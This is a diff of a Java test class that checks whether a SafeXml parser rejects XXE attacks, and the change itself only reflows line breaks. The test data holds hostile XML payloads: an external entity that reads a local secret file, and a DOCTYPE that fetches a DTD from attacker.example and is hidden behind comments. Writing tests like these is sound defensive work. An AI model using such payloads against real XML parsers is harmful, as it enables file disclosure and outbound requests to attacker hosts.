@@ -22,7 +22,8 @@ class SafeXmlTest {
     void shouldRefuseExternalEntityWithoutReadingTheFileItNames() throws Exception {
         final Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-CONTENT");
         final byte[] xxe = ("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY s SYSTEM \"" + secret.toUri()
-                + "\">]><rss><channel><item><title>&s;</title></item></channel></rss>").getBytes(StandardCharsets.UTF_8);
+                        + "\">]><rss><channel><item><title>&s;</title></item></channel></rss>")
+                .getBytes(StandardCharsets.UTF_8);
 
         assertThatThrownBy(() -> SafeXml.parse(xxe)).isInstanceOfSatisfying(RejectedFileException.class, e -> {
             assertThat(e.reason()).isEqualTo(RejectReason.UNSAFE_XML);
@@ -45,12 +46,13 @@ class SafeXmlTest {
     @Test
     void shouldRefuseDoctypeHiddenBehindCommentsAndProcessingInstructions() {
         final byte[] hidden = ("<?xml version=\"1.0\"?>\n<!-- a comment -->\n<?pi data?>\n<!DOCTYPE feed SYSTEM "
-                + "\"http://attacker.example/x.dtd\">\n<feed xmlns=\"http://www.w3.org/2005/Atom\"/>")
+                        + "\"http://attacker.example/x.dtd\">\n<feed xmlns=\"http://www.w3.org/2005/Atom\"/>")
                 .getBytes(StandardCharsets.UTF_8);
 
         assertThat(XmlProlog.of(hidden).hasDoctype()).isTrue();
-        assertThatThrownBy(() -> SafeXml.parse(hidden)).isInstanceOfSatisfying(RejectedFileException.class,
-                e -> assertThat(e.reason()).isEqualTo(RejectReason.UNSAFE_XML));
+        assertThatThrownBy(() -> SafeXml.parse(hidden))
+                .isInstanceOfSatisfying(
+                        RejectedFileException.class, e -> assertThat(e.reason()).isEqualTo(RejectReason.UNSAFE_XML));
     }
 
     @Test
